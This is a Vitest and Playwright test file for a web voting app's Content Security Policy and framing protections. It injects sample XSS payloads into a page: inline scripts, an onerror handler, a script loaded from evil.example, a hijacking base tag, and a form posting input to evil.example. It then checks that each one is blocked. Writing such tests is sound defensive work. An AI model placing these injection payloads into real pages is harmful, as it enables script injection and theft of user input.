import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { beforeAll, describe, expect, it } from 'vitest'
import { useServer } from '../api/expectations.ts'
import { expectCleanPage, expectProblem, problemsOf, useBrowser } from '../support/browser.ts'
import { fullQuestion, ideaRow, pageOf, voteButton, type Full } from './stage.ts'

const the = useServer()
const browser = useBrowser()

let full: Full
let decided: Full
beforeAll(async () => {
  full = await fullQuestion(the.url)
  decided = await fullQuestion(the.url)
  await decided.alice.close()
  await decided.alice.decide({ ideas: [decided.ideas.lake], statement: 'There.' })
})

describe.each([
  ['with script', 'light', true],
  ['with script', 'dark', true],
  ['without script', 'light', false],
  ['without script', 'dark', false],
] as const)('%s, %s', (_how, scheme, javaScript) => {
  it('no page breaks its own policy', async () => {
    const { alice, ideas } = full
    const page = await browser.visit(`${the.url}/admin/${alice.questionId}/${alice.asked.adminToken}`, {
      scheme,
      javaScript,
      screen: 'narrow',
    })
    const question = `/q/${alice.questionId}`
    const closed = `/q/${decided.alice.questionId}`
    const paths = ['/', question, `${question}?order=newest`, `${question}/ideas/${ideas.lake}/voters`]
    const own = ['/me', '/me/leave', `/ideas/${ideas.lake}/edit`, '/admin', '/admin/contributions', '/admin/decision']
    for (const path of [...paths, ...own.map((path) => question + path), closed, `${closed}/admin`]) {
      const answer = await page.goto(the.url + path)
      expect(answer?.status(), path).toBe(200)
      expect(await page.locator('main').isVisible(), path).toBe(true)
      // Here, so that it says on which page.
      expectCleanPage(page)
    }
    for (const path of ['/nothing', '/q/nothing0000']) {
      expectProblem(page, /status of 404/)
      expect((await page.goto(the.url + path))?.status(), path).toBe(404)
      expectCleanPage(page)
    }
    // Its style follows the colour scheme. Chromium looks for an icon of the picture as well.
    expectProblem(page, /\/favicon\.ico/)
    expect((await page.goto(`${the.url}/favicon.svg`))?.status()).toBe(200)
  })
})

/** Opens the page of a question with something in it that came from elsewhere, under the policy it has. */
async function visitWith(injected: string): Promise<Page> {
  const page = await browser.visit(the.url)
  expectProblem(page, /Content.Security.Policy/)
  expectProblem(page, /GET https:\/\/evil\.example\/script\.js/)
  await page.route(pageOf(full.alice), async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: (await response.text()).replace('</main>', `${injected}</main>`) })
  })
  await page.goto(pageOf(full.alice))
  await voteButton(page, 'At the lake').waitFor()
  return page
}

/** By which directives something was stopped on a page so far. */
function stopped(page: Page): string[] {
  return problemsOf(page).flatMap((problem) => /Content-Security-Policy \(enforce\): ([\w-]+)/.exec(problem)?.[1] ?? [])
}

const hurt = "document.documentElement.dataset.hurt = 'yes'"

describe('what got into a page does nothing', () => {
  it.each([
    ['a script', 'script-src-elem', `<script>${hurt}</script>`],
    ['a module', 'script-src-elem', `<script type="module">${hurt}</script>`],
    ['a script from elsewhere', 'script-src-elem', '<script src="https://evil.example/script.js"></script>'],
    ['a script in an address', 'script-src-elem', `<script src="data:text/javascript,${encodeURI(hurt)}"></script>`],
    ['a handler', 'script-src-attr', `<img alt="" src="data:," onerror="${hurt}">`],
    ['a style', 'style-src-elem', '<style>main { display: none }</style>'],
    ['a style attribute', 'style-src-attr', '<p style="position: fixed; inset: 0">This is too much.</p>'],
    ['a base', 'base-uri', '<base href="https://evil.example/">'],
    ['a plug-in', 'object-src', '<object data="/favicon.svg" type="image/svg+xml"></object>'],
  ])('%s', async (_what, directive, injected) => {
    const page = await visitWith(injected)
    await expect.poll(() => stopped(page)).toContain(directive)
    expect(await page.evaluate('document.documentElement.dataset.hurt ?? null')).toBeNull()
    expect(await page.evaluate('document.baseURI')).toBe(pageOf(full.alice))
    expect(await ideaRow(page, 'At the lake').isVisible()).toBe(true)
  })

  it('a form that would send what is typed elsewhere', async () => {
    const page = await visitWith('<form method="post" action="https://evil.example/"><button>Lure</button></form>')
    await page.getByRole('button', { name: 'Lure' }).click()
    await expect.poll(() => stopped(page)).toContain('connect-src')
    expect(page.url()).toBe(pageOf(full.alice))
  })
})

it('no other site can put a page into a frame of its own', async () => {
  const evil = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html')
    response.end(
      `<!doctype html><link rel="icon" href="data:,"><h1>Win!</h1><iframe src="${pageOf(full.alice)}"></iframe>`,
    )
  })
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve))
  try {
    const page = await browser.visit(`http://127.0.0.1:${(evil.address() as AddressInfo).port}`)
    expectProblem(page, /frame-ancestors|request to another origin/)
    await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
    expect(await page.frames()[1]?.locator('main').count()).toBe(0)
  } finally {
    evil.closeAllConnections()
    evil.close()
  }
})
